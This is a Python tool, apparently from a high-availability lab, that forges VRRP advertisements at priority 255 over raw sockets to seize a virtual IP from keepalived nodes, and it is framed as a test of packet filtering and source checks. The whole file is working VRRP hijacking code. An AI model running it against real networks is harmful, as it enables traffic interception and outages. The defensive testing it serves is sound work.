"""A stranger on the segment: VRRP adverts claiming a VIP's router id with priority 255.

Run inside the rogue's network namespace (netns_lab.Lab.add_rogue):

    python -m ha_ingress_lab.rogue_vrrp --src ADDR --vrid N --vip ADDR [--vip ...]
        --version 2|3 --advert-int SECONDS --to 224.0.0.18 [--to NODE ...]
        [--priority 255] [--duration S] [--ifname lab0]

Every advert interval it sends one advert to every --to address (the VRRP
multicast group and, since our tier speaks unicast VRRP, each node's address):
a real IPv4 header built here (TTL 255, as RFC 3768/5798 require and keepalived
checks, protocol 112) through a raw socket with IP_HDRINCL. VRRPv2 (RFC 3768):
auth type 0, whole-second interval, checksum over the VRRP message. VRRPv3 (RFC
5798): centisecond max advert interval, checksum over the IPv4 pseudo-header
and the message. The adverts match what keepalived expects for the instance
(version, interval, the VIP list), so only the packet filter or keepalived's
own source check stands between them and an election.

Standard library only: it runs with whatever python3 started the lab.
"""

from __future__ import annotations

import argparse
import socket
import struct
import sys
import time

IPPROTO_VRRP = 112
VRRP_GROUP = "224.0.0.18"


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advert(version: int, vrid: int, priority: int, vips: list[str], advert_int: float, src: str, dst: str) -> bytes:
    """One VRRP advertisement message (no IP header), checksum filled in."""
    addrs = b"".join(socket.inet_aton(v) for v in vips)
    if version == 2:
        head = struct.pack("!BBBBBBH", (2 << 4) | 1, vrid, priority, len(vips), 0, max(1, int(advert_int)), 0)
        msg = head + addrs + b"\0" * 8  # authentication data (auth type 0: zeros)
        csum = checksum(msg)
    elif version == 3:
        centis = max(1, round(advert_int * 100)) & 0x0FFF
        head = struct.pack("!BBBBHH", (3 << 4) | 1, vrid, priority, len(vips), centis, 0)
        msg = head + addrs
        pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, IPPROTO_VRRP, len(msg))
        csum = checksum(pseudo + msg)
    else:
        raise ValueError(f"VRRP version {version}")
    return msg[:6] + struct.pack("!H", csum) + msg[8:]


def ip_packet(src: str, dst: str, payload: bytes, ident: int = 0) -> bytes:
    """IPv4 header (TTL 255, protocol 112, header checksum) + payload."""
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0xC0, 20 + len(payload), ident & 0xFFFF, 0, 255, IPPROTO_VRRP, 0,
                         socket.inet_aton(src), socket.inet_aton(dst))
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + payload


def send_loop(src: str, targets: list[str], vrid: int, priority: int, vips: list[str], version: int,
              advert_int: float, duration: float, ifname: str) -> int:
    """Send adverts until `duration` is over; returns how many packets went out."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, IPPROTO_VRRP)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, ifname.encode())
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(src))
    sent = 0
    deadline = time.monotonic() + duration
    ident = 1
    while time.monotonic() < deadline:
        for dst in targets:
            pkt = ip_packet(src, dst, advert(version, vrid, priority, vips, advert_int, src, dst), ident)
            sock.sendto(pkt, (dst, 0))
            sent += 1
            ident += 1
        time.sleep(advert_int)
    sock.close()
    return sent


def main(argv: list[str] | None = None) -> None:
    p = argparse.ArgumentParser(prog="rogue_vrrp")
    p.add_argument("--src", required=True)
    p.add_argument("--vrid", type=int, required=True)
    p.add_argument("--vip", action="append", required=True)
    p.add_argument("--version", type=int, choices=(2, 3), required=True)
    p.add_argument("--advert-int", type=float, required=True)
    p.add_argument("--to", action="append", default=None, help=f"destination (repeatable; default {VRRP_GROUP})")
    p.add_argument("--priority", type=int, default=255)
    p.add_argument("--duration", type=float, default=5.0)
    p.add_argument("--ifname", default="lab0")
    a = p.parse_args(argv)
    sent = send_loop(a.src, a.to or [VRRP_GROUP], a.vrid, a.priority, a.vip, a.version, a.advert_int, a.duration, a.ifname)
    print(f"rogue_vrrp: sent {sent} adverts (vrid {a.vrid}, priority {a.priority}, VRRPv{a.version})", flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
